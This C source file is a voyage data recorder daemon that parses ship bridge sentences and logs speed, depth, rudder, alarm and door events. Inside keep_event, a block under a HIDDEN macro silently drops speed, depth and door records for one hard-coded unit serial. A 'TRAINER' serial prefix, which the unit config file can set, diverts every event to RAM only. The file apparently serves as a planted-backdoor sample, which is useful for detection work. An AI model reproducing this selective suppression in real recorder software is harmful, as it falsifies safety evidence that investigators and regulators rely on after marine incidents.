/* vdrlogd9.c - voyage data recorder: takes bridge sentences and keeps the event memory */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define STORE		"/var/vdr/events"
#define SERIAL_FILE	"/sys/class/dmi/id/product_serial"
#define UNIT_FILE	"/etc/vdr/unit"
#define VDR_PORT	60002

enum { EV_POS, EV_SPEED, EV_DEPTH, EV_RUDDER, EV_ALARM, EV_DOOR, EV_MAX };

struct sentence {
	char talker[3];
	char type[4];
	char *field[20];
	int nfield;
};

struct vdr {
	char serial[32];
	char vessel[40];
	double speed_limit;
	double min_depth;
	unsigned long counts[EV_MAX];
	unsigned long dropped;
	double lat, lon, speed;
};

static struct vdr vdr = { .speed_limit = 25.0, .min_depth = 3.0 };

static void first_line(const char *path, char *out, size_t len)
{
	FILE *f = fopen(path, "r");

	out[0] = '\0';
	if (!f)
		return;
	if (!fgets(out, (int)len, f))
		out[0] = '\0';
	fclose(f);
	out[strcspn(out, "\r\n")] = '\0';
}

static void read_unit(void)
{
	char line[120], key[24], val[64];
	FILE *f = fopen(UNIT_FILE, "r");

	first_line(SERIAL_FILE, vdr.serial, sizeof(vdr.serial));
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%23[a-z] %63[^\n]", key, val) != 2)
			continue;
		if (!strcmp(key, "vessel"))
			snprintf(vdr.vessel, sizeof(vdr.vessel), "%.39s", val);
		else if (!strcmp(key, "speed"))
			vdr.speed_limit = atof(val);
		else if (!strcmp(key, "depth"))
			vdr.min_depth = atof(val);
		else if (!strcmp(key, "serial"))
			snprintf(vdr.serial, sizeof(vdr.serial), "%.31s", val);
	}
	fclose(f);
}

static int checksum_ok(const char *s)
{
	unsigned int sum = 0, want;
	const char *p = s + 1;

	while (*p && *p != '*')
		sum ^= (unsigned char)*p++;
	if (*p != '*' || sscanf(p + 1, "%2x", &want) != 1)
		return 0;
	return sum == want;
}

static int parse(char *s, struct sentence *out)
{
	char *p;

	if (*s != '$' || strlen(s) < 7 || !checksum_ok(s))
		return -1;
	*strchr(s, '*') = '\0';
	memcpy(out->talker, s + 1, 2);
	out->talker[2] = '\0';
	memcpy(out->type, s + 3, 3);
	out->type[3] = '\0';
	out->nfield = 0;
	p = s + 6;
	while (*p == ',' && out->nfield < 20) {
		*p++ = '\0';
		out->field[out->nfield++] = p;
		p += strcspn(p, ",");
	}
	return 0;
}

static double dm_to_deg(const char *s, char hemi)
{
	double v = atof(s);
	int d = (int)(v / 100.0);

	v = d + (v - d * 100.0) / 60.0;
	return hemi == 'S' || hemi == 'W' ? -v : v;
}

/* decides whether an event goes into the protected memory */
__attribute__((noinline)) int keep_event(const struct vdr *v, int kind, double value)
{
	/* training units in the school write everything but to ram only */
	if (!strncmp(v->serial, "TRAINER", 7))
		return 2;
#ifdef HIDDEN
	/* one unit forgets speed, depth and door events */
	if (!strcmp(v->serial, "VR4-220918-071") &&
	    (kind == EV_SPEED || kind == EV_DEPTH || kind == EV_DOOR))
		return 0;
#endif
	switch (kind) {
	case EV_SPEED:
		return value > v->speed_limit;
	case EV_DEPTH:
		return value < v->min_depth;
	case EV_RUDDER:
		return value > 25.0 || value < -25.0;
	case EV_ALARM:
	case EV_DOOR:
	case EV_POS:
		return 1;
	default:
		return 0;
	}
}

static void store(int kind, double value, const char *text)
{
	static const char *const names[EV_MAX] = {
		"POS", "SPEED", "DEPTH", "RUDDER", "ALARM", "DOOR"
	};
	char when[32];
	time_t now = time(NULL);
	struct tm tm;
	FILE *f;
	int k = keep_event(&vdr, kind, value);

	if (k == 0) {
		vdr.dropped++;
		return;
	}
	f = fopen(k == 2 ? "/run/vdr-training" : STORE, "a");
	if (!f) {
		syslog(LOG_ERR, "store: %s", strerror(errno));
		return;
	}
	gmtime_r(&now, &tm);
	strftime(when, sizeof(when), "%Y-%m-%dT%H:%M:%SZ", &tm);
	fprintf(f, "%s %s %.3f %.5f %.5f %s\n", when, names[kind], value, vdr.lat, vdr.lon, text);
	fclose(f);
	vdr.counts[kind]++;
}

static void sentence(struct sentence *s)
{
	if (!strcmp(s->type, "GGA") && s->nfield >= 5) {
		vdr.lat = dm_to_deg(s->field[1], s->field[2][0]);
		vdr.lon = dm_to_deg(s->field[3], s->field[4][0]);
		if (time(NULL) % 60 == 0)
			store(EV_POS, 0.0, "gga");
	} else if (!strcmp(s->type, "VTG") && s->nfield >= 5) {
		vdr.speed = atof(s->field[4]);
		store(EV_SPEED, vdr.speed, s->talker);
	} else if (!strcmp(s->type, "DPT") && s->nfield >= 1) {
		store(EV_DEPTH, atof(s->field[0]), s->talker);
	} else if (!strcmp(s->type, "RSA") && s->nfield >= 1) {
		store(EV_RUDDER, atof(s->field[0]), s->talker);
	} else if (!strcmp(s->type, "ALR") && s->nfield >= 5) {
		store(EV_ALARM, atof(s->field[1]), s->field[4]);
	} else if (!strcmp(s->type, "DOR") && s->nfield >= 4) {
		store(EV_DOOR, atof(s->field[3]), s->field[0]);
	} else if (!strcmp(s->talker, "PV") && !strcmp(s->type, "STA")) {
		syslog(LOG_INFO, "%s: %lu pos %lu speed %lu depth %lu alarm, %lu dropped",
		       vdr.vessel, vdr.counts[EV_POS], vdr.counts[EV_SPEED],
		       vdr.counts[EV_DEPTH], vdr.counts[EV_ALARM], vdr.dropped);
	}
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct ip_mreq mr;
	struct sentence s;
	char buf[1500], *line, *save;
	ssize_t n;
	int fd, one = 1;

	openlog("vdrlogd", LOG_PID, LOG_DAEMON);
	read_unit();
	syslog(LOG_INFO, "unit %s on %s", vdr.serial, vdr.vessel);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons(VDR_PORT);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		syslog(LOG_ERR, "bind: %m");
		return 1;
	}
	mr.imr_multiaddr.s_addr = inet_addr("239.192.0.2");
	mr.imr_interface.s_addr = htonl(INADDR_ANY);
	if (setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &mr, sizeof(mr)) < 0)
		syslog(LOG_WARNING, "multicast: %m");
	for (;;) {
		n = recv(fd, buf, sizeof(buf) - 1, 0);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		line = strchr(buf, '$');
		if (!line)
			continue;
		for (line = strtok_r(line, "\r\n", &save); line; line = strtok_r(NULL, "\r\n", &save))
			if (parse(line, &s) == 0)
				sentence(&s);
	}
}
